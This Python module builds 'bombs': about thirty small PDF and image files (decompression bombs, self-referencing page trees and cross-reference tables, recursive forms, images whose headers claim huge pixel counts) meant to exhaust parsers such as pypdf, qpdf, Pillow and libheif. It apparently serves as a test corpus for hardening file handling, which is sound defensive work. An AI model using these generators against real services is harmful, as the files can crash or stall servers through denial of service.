"""Files that are small to send and dear to open, each made by a few lines: `BOMBS` is {name: a function giving its bytes}.

Public reports they follow: decompression bombs in pypdf, qpdf and Pillow; page trees that hold themselves (pdf.js, MuPDF);
object streams that extend each other (qpdf); phone photos with a size in the head that no pixel follows (libheif, libwebp).
"""

import io
import struct
import zlib
from collections.abc import Callable, Iterable

from PIL import Image

MB = 2**20


def pdf(objects: Iterable[bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A paper of these objects, numbered from 1, with a true table of where they are."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + each + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer\n<</Size %d " % (len(places) + 1) + trailer + b">>\nstartxref\n%d\n%%%%EOF\n" % table)


def stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<<" + head + b"/Length %d>>stream\n" % len(data) + data + b"\nendstream"


def one_page(contents: bytes, more: bytes = b"", others: Iterable[bytes] = ()) -> bytes:
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R" + more + b">>"
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, contents, *others])


def deflated(size: int, unit: bytes = b"0 0 m 9 9 l S ", times: int = 1) -> bytes:
    """`size` bytes that repeat `unit`, deflated so many times; piece by piece, for they need not fit in memory."""
    packer, out, block = zlib.compressobj(1), [], unit * (MB // len(unit))
    for _ in range(max(1, size // len(block))):
        out.append(packer.compress(block))
    packed = b"".join(out) + packer.flush()
    for _ in range(times - 1):
        packed = zlib.compress(packed, 9)
    return packed


def content_stream() -> bytes:
    """The one that was seen to stop a server: 200 KB that are 200 MB of drawing."""
    return one_page(stream(deflated(200 * MB), b"/Filter/FlateDecode"))


def chain_of_filters() -> bytes:
    return one_page(stream(deflated(220 * MB, b"\0" * 64, times=2), b"/Filter[/FlateDecode/FlateDecode]"))


def long_chain_of_filters() -> bytes:
    return one_page(stream(deflated(220 * MB, b" " * 64, times=3), b"/Filter[/Fl/Fl/FlateDecode]"))


def object_stream() -> bytes:
    inside = deflated(220 * MB, b"(" + b"a" * 1022 + b")")
    packed = stream(inside, b"/Type/ObjStm/N 300000/First 2/Filter/FlateDecode")
    return one_page(stream(b"0 0 m"), others=[packed])


def object_streams_that_extend_each_other() -> bytes:
    first = stream(zlib.compress(b"9 0 <<>>"), b"/Type/ObjStm/N 1/First 4/Extends 6 0 R/Filter/FlateDecode")
    second = stream(zlib.compress(b"9 0 <<>>"), b"/Type/ObjStm/N 1/First 4/Extends 5 0 R/Filter/FlateDecode")
    return one_page(stream(b"0 0 m"), others=[first, second])


def table_that_points_at_itself() -> bytes:
    whole = one_page(stream(b"0 0 m"))
    table = whole.rindex(b"\nxref") + 1
    return whole.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % table)


def page_tree_that_holds_itself() -> bytes:
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"])


def deep_page_tree() -> bytes:
    inner = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 3) for number in range(50_000)]
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", *inner, b"<</Type/Page/MediaBox[0 0 9 9]>>"])


def deep_arrays() -> bytes:
    return one_page(stream(b"0 0 m"), b"/Deep " + b"[" * 500_000 + b"]" * 500_000)


def many_pages() -> bytes:
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(60_000))
    pages = [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]>>"] * 60_000
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[" + kids + b"]/Count 60000>>", *pages])


def one_page_many_times() -> bytes:
    kids = b"3 0 R " * 1_000_000
    return pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[" + kids + b"]/Count 1000000>>", b"<</Type/Page/MediaBox[0 0 9 9]>>"])


def laughing_forms() -> bytes:
    """Ten forms, each of which draws the next ten times."""
    forms = [
        stream(b"/F Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]/Resources<</XObject<</F %d 0 R>>>>" % (number + 6))
        for number in range(10)
    ]
    end = stream(b"0 0 m 500 500 l S", b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]")
    return one_page(stream(b"/F Do"), b"/Resources<</XObject<</F 5 0 R>>>>", [*forms, end])


def tiling() -> bytes:
    pattern = stream(b"0 0 m 1 1 l S", b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .001/YStep .001/Resources<<>>")
    return one_page(stream(b"/Pattern cs /P scn 0 0 600 800 re f"), b"/Resources<</Pattern<</P 5 0 R>>>>", [pattern])


def picture_in_pdf() -> bytes:
    head = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode"
    return one_page(stream(b"600 0 0 800 0 0 cm /I Do"), b"/Resources<</XObject<</I 5 0 R>>>>", [stream(deflated(100 * MB, b"\0"), head)])


def picture_within_bounds_in_pdf() -> bytes:
    head = b"/Type/XObject/Subtype/Image/Width 10000/Height 10000/BitsPerComponent 16/ColorSpace/DeviceCMYK/Filter/FlateDecode"
    return one_page(stream(b"600 0 0 800 0 0 cm /I Do"), b"/Resources<</XObject<</I 5 0 R>>>>", [stream(deflated(400 * MB, b"\0" * 64), head)])


def huge_paper() -> bytes:
    return one_page(stream(b"0 0 m 9 9 l S")).replace(b"[0 0 600 800]", b"[0 0 9e9 9e9]")


def zip_in_pdf() -> bytes:
    """A file inside: bytes of a zip bomb, which nobody must open."""
    inside = stream(deflated(220 * MB, b"\0" * 64), b"/Type/EmbeddedFile/Filter/FlateDecode")
    spec = b"<</Type/Filespec/F(bomb.zip)/EF<</F 5 0 R>>>>"
    return one_page(stream(b"0 0 m"), others=[inside, spec]).replace(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(b)6 0 R]>>>>>>", 1
    )


def lzw() -> bytes:
    return one_page(stream(b"\x80" + b"\x0b\x60\x50" * 300_000, b"/Filter/LZWDecode"))


def run_lengths() -> bytes:
    return one_page(stream(b"\x81 " * 3 * MB, b"/Filter/RunLengthDecode"))


# ---- pictures -----------------------------------------------------------------------------------------------


def png(width: int, height: int, packed: bytes, bits: int = 8, colour: int = 2, more: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, bits, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + more + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_many_pixels() -> bytes:
    return png(60_000, 60_000, deflated(100 * MB, b"\0"))


def png_within_bounds() -> bytes:
    """As many pixels as are taken, four bytes each, in a file of half a megabyte."""
    return png(8000, 7800, deflated(240 * MB, b"\0" * 64), colour=6)


def png_with_a_long_text() -> bytes:
    return png(9, 9, zlib.compress(bytes(28 * 9)), more=chunk(b"zTXt", b"a\0\0" + deflated(220 * MB, b"a" * 64)) * 8)


def png_with_a_long_profile() -> bytes:
    return png(9, 9, zlib.compress(bytes(28 * 9)), more=chunk(b"iCCP", b"a\0\0" + deflated(220 * MB, b"a" * 64)))


def jpeg_of_many_pixels() -> bytes:
    """A small photo whose head says 65,000 by 65,000."""
    small = io.BytesIO()
    Image.new("RGB", (16, 16), "red").save(small, "JPEG")
    at = small.getvalue().index(b"\xff\xc0")
    return small.getvalue()[: at + 5] + struct.pack(">HH", 65_000, 65_000) + small.getvalue()[at + 9 :]


def jpeg_of_many_scans() -> bytes:
    """Progressive, its last scan repeated: each is gone through over the whole picture."""
    kept = io.BytesIO()
    Image.effect_noise((4000, 4000), 60).save(kept, "JPEG", progressive=True, quality=30)
    whole = kept.getvalue()
    last = whole.rindex(b"\xff\xda")
    return whole[:-2] + whole[last:-2][:2000] * 12_000 + whole[-2:]


def webp_of_many_pixels() -> bytes:
    """16,383 by 16,383 is what the kind allows; one colour takes some hundred kilobytes."""
    small = io.BytesIO()
    Image.new("RGB", (16, 16), "red").save(small, "WEBP", lossless=True)
    data = bytearray(small.getvalue())
    at = data.index(b"VP8L") + 9
    data[at : at + 4] = struct.pack("<I", 16_382 | 16_382 << 14)
    return bytes(data)


def gif_of_many_frames() -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", 9000, 9000, 0x80, 0, 0) + bytes(6)
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 9000, 9000, 0) + b"\x02\x01\x2c\x00"
    return head + frame * 200_000 + b"\x3b"


def heic(width: int = 64, height: int = 64) -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    kept = io.BytesIO()
    Image.new("RGB", (64, 64), "red").save(kept, "HEIF")
    return kept.getvalue().replace(b"ispe\0\0\0\0" + struct.pack(">II", 64, 64), b"ispe\0\0\0\0" + struct.pack(">II", width, height))


def heic_of_many_pixels() -> bytes:
    return heic(60_000, 60_000)


def heic_whose_size_lies() -> bytes:
    return heic(9_000, 9_000)


BOMBS: dict[str, Callable[[], bytes]] = {
    made.__name__: made
    for made in (
        content_stream, chain_of_filters, long_chain_of_filters, object_stream, object_streams_that_extend_each_other,
        table_that_points_at_itself, page_tree_that_holds_itself, deep_page_tree, deep_arrays, many_pages,
        one_page_many_times, laughing_forms, tiling, picture_in_pdf, picture_within_bounds_in_pdf, huge_paper, zip_in_pdf,
        lzw, run_lengths, png_of_many_pixels, png_within_bounds, png_with_a_long_text, png_with_a_long_profile,
        jpeg_of_many_pixels, jpeg_of_many_scans, webp_of_many_pixels, gif_of_many_frames, heic_of_many_pixels,
        heic_whose_size_lies,
    )
}  # fmt: skip
